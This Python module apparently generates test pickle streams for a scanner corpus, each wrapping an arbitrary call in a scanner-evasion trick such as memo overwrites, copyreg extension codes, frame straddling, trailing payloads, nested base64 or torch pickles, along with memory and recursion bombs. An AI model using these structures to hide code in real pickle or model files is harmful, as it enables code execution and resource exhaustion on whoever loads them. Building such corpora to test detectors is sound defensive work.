"""Evasions inside the stream: structures that hide a call from whoever does not read like a loader.

A structure takes an action. With a payload it is the hit; with `OrderedDict()` it is the twin.
"""

from __future__ import annotations

import base64
import struct
from collections.abc import Callable
from typing import Final

from samples.recipes.assembler import (
    BINPERSID,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    OBJ,
    POP,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    Action,
    call,
    data,
    dict_of,
    frame,
    get,
    global_line,
    inst,
    integer,
    name,
    proto,
    put,
    stream,
    string8,
    string32,
    string_line,
    text,
    text32,
    text64,
    text_line,
    tuple_of,
)

Structure = Callable[[Action], bytes]
_FAR = 2**32 - 1


# PKO-01: each opcode that imports or calls.


def _global_reduce(act: Action) -> bytes:
    return stream(global_line(act.module, act.name), act.arguments, REDUCE, protocol=2)


def _inst(act: Action) -> bytes:
    return inst(act.module, act.name, *act.items) + STOP


def _obj(act: Action) -> bytes:
    return stream(MARK, act.callee, *act.items, OBJ)


def _obj_popped(act: Action) -> bytes:
    return stream(MARK, act.callee, *act.items, OBJ, POP, NONE)


def _newobj(act: Action) -> bytes:
    return stream(act.callee, act.arguments, NEWOBJ)


def _newobj_ex(act: Action) -> bytes:
    return stream(act.callee, act.arguments, EMPTY_DICT, NEWOBJ_EX)


# PKO-02 and PKO-03: the memo and the stack hold another name than the last string read.


def _memo_overwritten(act: Action) -> bytes:
    decoys = text("collections") + put(0) + POP + text("OrderedDict") + put(1) + POP
    real = text(act.module) + put(0) + POP + text(act.name) + put(1) + POP
    return stream(decoys, real, get(0), get(1), STACK_GLOBAL, act.arguments, REDUCE)


def _memo_mixed(act: Action) -> bytes:
    """MEMOIZE writes to the index that is the number of entries, wherever PUT wrote."""
    stored = (
        text("math") + MEMOIZE + POP + text(act.module) + put(7) + POP + text(act.name) + MEMOIZE + POP
    )
    return stream(stored, get(7), get(2), STACK_GLOBAL, act.arguments, REDUCE)


def _stack_shuffled(act: Action) -> bytes:
    module = text(act.module) + text("math") + POP + DUP + POP
    return stream(module, text(act.name), text("sqrt"), POP, STACK_GLOBAL, act.arguments, REDUCE)


# PKO-05: a number instead of a name.


def _registered(act: Action, code: int) -> bytes:
    return call(name("copyreg", "add_extension"), text(act.module), text(act.name), integer(code)) + POP


def _ext1(act: Action) -> bytes:
    return stream(_registered(act, 240), b"\x82\xf0", act.arguments, REDUCE)


def _ext4(act: Action) -> bytes:
    return stream(_registered(act, 70_000), b"\x84" + struct.pack("<I", 70_000), act.arguments, REDUCE)


# PKO-06 and PKO-07: what stands behind.


def _then_garbage(act: Action) -> bytes:
    return proto(4) + act.call + b"\xff\xff\xff\xff"


def _then_cut(act: Action) -> bytes:
    return proto(4) + act.call + b"\x8c\x40cut"


def _stacked(act: Action) -> bytes:
    return stream(dict_of(("epoch", integer(3))), protocol=2) + stream(act.call)


def _behind_padding(act: Action) -> bytes:
    return stream(dict_of(("epoch", integer(3)))) + bytes(64) + stream(act.call)


def _behind_text(act: Action) -> bytes:
    return stream(dict_of(("epoch", integer(3)))) + b"Here ends the model.\n" * 4 + stream(act.call)


# PKO-08: numbers that one reader takes and another refuses.


def _number(line: bytes) -> Structure:
    return lambda act: line + POP + act.call + STOP


# PKO-09: an argument that begins in a frame and ends behind it.


def _frame_straddled(opcode: bytes) -> Structure:
    """Reading on, the hidden opcodes are text; a file-backed C unpickler runs them."""

    def structure(act: Action) -> bytes:
        hidden = act.call + STOP
        swallow = b"X" + struct.pack("<I", len(hidden))
        behind = b"y" * 20
        head = opcode + struct.pack("<I", len(behind) + len(swallow))
        return proto(4) + frame(head + b"x" * len(swallow)) + behind + swallow + hidden + POP + STOP

    return structure


# PKO-10: protocols.


def _protocol_changes(act: Action) -> bytes:
    return stream(proto(2), global_line(act.module, act.name), proto(4), act.arguments, REDUCE)


def _protocol_missing(act: Action) -> bytes:
    return act.call + STOP


def _protocol_late(act: Action) -> bytes:
    return NONE + POP + proto(4) + act.call + STOP


# PKO-13 and PKO-14: the same name in every spelling.


def _spelled(write: Callable[[str], bytes]) -> Structure:
    def structure(act: Action) -> bytes:
        return stream(write(act.module), write(act.name), STACK_GLOBAL, act.arguments, REDUCE)

    return structure


# PKO-15: persistent ids.


def _persistent_call(act: Action) -> bytes:
    return stream(tuple_of(text("plugin"), act.call), BINPERSID)


# PKO-17: pickles in literals.


def _nested_bytes(act: Action) -> bytes:
    return stream(dict_of(("blob", data(stream(act.call)))))


def _nested_base64(act: Action) -> bytes:
    return stream(dict_of(("blob", text(base64.b64encode(stream(act.call)).decode()))))


def _nested_loads(act: Action) -> bytes:
    return stream(call(name("_pickle", "loads"), data(stream(act.call))))


def _nested_storage(act: Action) -> bytes:
    """`torch.load` inside `pickle.load`: what a tensor becomes in a plain pickle."""
    return stream(call(name("torch.storage", "_load_from_bytes"), data(stream(act.call, protocol=2))))


# PKO-18: bombs for whoever follows them.


def _put_far(act: Action) -> bytes:
    named = text(act.module) + put(_FAR) + POP + get(_FAR) + text(act.name) + STACK_GLOBAL
    return stream(named, act.arguments, REDUCE)


def _nested_deep(act: Action) -> bytes:
    return stream(MARK * 20_000, act.call, b"t" * 20_000)


def _laughs(act: Action) -> bytes:
    """Each list holds the one before twice: 2**40 items for whoever unfolds it."""
    level = MEMOIZE + POP
    lists = EMPTY_LIST + level
    for depth in range(40):
        lists += EMPTY_LIST + MARK + get(depth) + get(depth) + b"e" + level
    return stream(lists, act.call)


def _size_claimed(act: Action) -> bytes:
    return proto(4) + act.call + b"\x8e" + struct.pack("<Q", 2**62) + b"x"


# PKO-20: what a loader takes without a word and a parser may choke on.


def _oddities(act: Action) -> bytes:
    odd = (
        b"I" + b"9" * 4000 + b"\n",
        b"L-0L\n",
        b"F-nan\n",
        b"F1e-999\n",
        b"V\\ud800\n",
        b"S'\\''\n",
        b"X\x03\x00\x00\x00\xed\xa0\x80",
        b"\x8a\x00",
        b"\x8b\x00\x00\x00\x00",
        b"U\x00",
        b"\x96" + bytes(8),
        b"G\x7f\xf8" + bytes(6),
    )
    return b"".join(piece + POP for piece in odd) + act.call + STOP


def _memo_missing(act: Action) -> bytes:
    return proto(4) + act.call + get(9) + STOP


STRUCTURES: Final[dict[str, Structure]] = {
    "pko-01-global-reduce": _global_reduce,
    "pko-01-inst": _inst,
    "pko-01-obj": _obj,
    "pko-01-obj-popped": _obj_popped,
    "pko-01-newobj": _newobj,
    "pko-01-newobj-ex": _newobj_ex,
    "pko-02-memo-overwritten": _memo_overwritten,
    "pko-02-memo-mixed": _memo_mixed,
    "pko-03-stack-shuffled": _stack_shuffled,
    "pko-05-ext1-registered": _ext1,
    "pko-05-ext4-registered": _ext4,
    "pko-06-then-garbage": _then_garbage,
    "pko-06-then-cut": _then_cut,
    "pko-07-stacked": _stacked,
    "pko-07-behind-padding": _behind_padding,
    "pko-07-behind-text": _behind_text,
    "pko-08-int-hex": _number(b"I0x10\n"),
    "pko-08-int-nul": _number(b"I1\x00junk\n"),
    "pko-08-int-space": _number(b"I 7\n"),
    "pko-08-int-plus": _number(b"I+0\n"),
    "pko-08-int-underscore": _number(b"I1_0\n"),
    "pko-08-long-hex": _number(b"L0x10L\n"),
    "pko-09-frame-straddled": _frame_straddled(b"X"),
    "pko-09-frame-straddled-bytes": _frame_straddled(b"B"),
    "pko-10-protocol-changes": _protocol_changes,
    "pko-10-protocol-missing": _protocol_missing,
    "pko-10-protocol-late": _protocol_late,
    "pko-13-unicode-escapes": _spelled(text_line),
    "pko-13-string-escapes": _spelled(string_line),
    "pko-13-binunicode8": _spelled(text64),
    "pko-13-binunicode": _spelled(text32),
    "pko-14-short-binstring": _spelled(string8),
    "pko-14-binstring": _spelled(string32),
    "pko-15-persistent-id-calls": _persistent_call,
    "pko-17-nested-bytes": _nested_bytes,
    "pko-17-nested-base64": _nested_base64,
    "pko-17-nested-loads": _nested_loads,
    "pko-17-nested-storage": _nested_storage,
    "pko-18-put-far": _put_far,
    "pko-18-nested-deep": _nested_deep,
    "pko-18-laughs": _laughs,
    "pko-18-size-claimed": _size_claimed,
    "pko-20-oddities": _oddities,
    "pko-20-memo-missing": _memo_missing,
}
